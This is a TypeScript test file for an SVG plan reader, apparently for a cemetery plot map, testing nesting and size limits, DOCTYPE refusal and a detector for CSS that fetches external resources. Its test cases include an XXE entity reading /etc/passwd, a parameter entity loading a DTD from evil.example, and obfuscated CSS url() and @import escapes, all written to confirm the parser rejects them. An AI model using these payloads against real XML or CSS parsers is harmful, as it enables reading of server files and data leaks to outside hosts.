import { describe, expect, it } from 'vitest';
import { hasExternalReference } from '../../server/svg/css';
import { MAX_SVG_DEPTH, MAX_SVG_ELEMENTS, PLAN_REFUSALS } from '../../server/svg/limits';
import { readPlan } from '../../server/svg/planReader';

const ROOT = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">';
/** A plan whose root holds `levels - 1` nested groups, the innermost with one plot: `levels` levels in all. */
const nested = (levels: number) => `${ROOT}${'<g>'.repeat(levels - 2)}<rect id="A-1-1" width="1" height="1"/>${'</g>'.repeat(levels - 2)}</svg>`;
/** A plan of exactly `count` elements, root included. */
const elements = (count: number) => `${ROOT}${'<rect width="1" height="1"/>'.repeat(count - 1)}</svg>`;

describe('limits of a plan (issue 13)', () => {
  it(`reads ${MAX_SVG_DEPTH} levels of nesting and refuses one more, or 5,000 (400, French message)`, () => {
    expect(readPlan(nested(MAX_SVG_DEPTH))).toMatchObject({ ok: true, shapes: [{ key: { carre: 'A', allee: '1', numero: '1' } }] });
    expect(readPlan(nested(MAX_SVG_DEPTH + 1))).toEqual({ ok: false, ...PLAN_REFUSALS.tooDeep });
    expect(readPlan(nested(5000))).toEqual({ ok: false, status: 400, message: 'Le plan SVG est trop imbriqué (256 niveaux de groupes au maximum).' });
  });

  it(`reads ${MAX_SVG_ELEMENTS.toLocaleString('en')} elements and refuses one more (413, French message)`, () => {
    expect(readPlan(elements(MAX_SVG_ELEMENTS))).toMatchObject({ ok: true });
    expect(readPlan(elements(MAX_SVG_ELEMENTS + 1))).toEqual({
      ok: false,
      status: 413,
      message: 'Le plan SVG contient trop d’éléments (200 000 au maximum). Simplifiez-le ou découpez-le.',
    });
  });

  it.each([
    ['an internal subset', '<!DOCTYPE svg [<!ELEMENT svg ANY>]>'],
    ['an external entity (XXE)', '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'],
    ['another document type', '<!DOCTYPE html>'],
  ])('refuses a DOCTYPE with %s before reading further (400)', (_name, doctype) => {
    expect(readPlan(`<?xml version="1.0"?>${doctype}${ROOT}<text>&xxe;</text></svg>`)).toEqual({ ok: false, ...PLAN_REFUSALS.doctype });
  });

  it('refuses a root without any size, and text that is not in the declared encoding', () => {
    expect(readPlan('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>')).toEqual({ ok: false, ...PLAN_REFUSALS.noSize });
    expect(readPlan(Buffer.from(`${ROOT}<title>Cimeti\xe8re</title></svg>`, 'latin1'))).toEqual({ ok: false, ...PLAN_REFUSALS.notText });
  });
});

describe('CSS that could fetch something', () => {
  it.each([
    ['url(http://evil.example/a)', true],
    ['URL( "https://evil.example/a" )', true],
    ['u\\72l(https://evil.example/a)', true],
    ['\\75rl(https://evil.example/a)', true],
    ['\\000075 rl(https://evil.example/a)', true],
    ['u/**/rl(https://evil.example/a)', true],
    ['url("/**/#a")', true],
    ['url(data:image/png;base64,AAAA)', true],
    ["image-set('a.png' 1x)", true],
    ["-webkit-image-set('a.png' 1x)", true],
    ["image('a.png')", true],
    ['element(#a)', true],
    ['expression(alert(1))', true],
    ["@import 'x.css';", true],
    ['@\\69mport "x.css";', true],
    ['url(#a)', false],
    ["url( '#a' )", false],
    ['rgb(0, 0, 0)', false],
    ['calc(1px + 2px)', false],
    ['@media (min-width: 10px) { a:not(.b) { fill: red } }', false],
    ['#fff', false],
  ])('%s → %s', (css, external) => {
    expect(hasExternalReference(css)).toBe(external);
  });
});
